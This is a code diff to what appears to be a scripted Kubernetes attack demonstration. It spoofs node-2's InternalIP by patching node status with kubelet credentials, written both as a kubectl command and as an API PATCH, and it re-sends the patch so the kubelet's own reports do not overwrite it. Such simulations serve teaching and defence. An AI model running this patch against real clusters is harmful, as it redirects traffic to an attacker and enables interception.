@@ -31,11 +31,9 @@ export const falseNodeAddress = playOf({
     };
     const contentType = 'application/merge-patch+json';
     const patch = `kubectl --kubeconfig kubelet.conf patch node node-2 --subresource=status --type=merge -p '{"status":{"addresses":[{"type":"InternalIP","address":"${addresses.attacker}"}, …]}}'`;
-    const patched = await thief.request('PATCH', '/api/v1/nodes/node-2/status', {
-      body,
-      contentType,
-      signal,
-    });
+    const publish = () =>
+      thief.request('PATCH', '/api/v1/nodes/node-2/status', { body, contentType, signal });
+    const patched = await publish();
     if (!patched.ok) return stage.refused('attacker', patch, patched.words);
     await stage.did('attacker', patch, 'node/node-2 patched');
 
@@ -43,6 +41,8 @@ export const falseNodeAddress = playOf({
       address: addresses.attacker,
       position: atOwnAddress(`node-2’s address is ${addresses.attacker}`),
       present: loot.serving,
+      // The kubelet of node-2 says where it really is with every report of its own.
+      again: publish,
     });
     await fake.isAskedFor('web-2');
   },
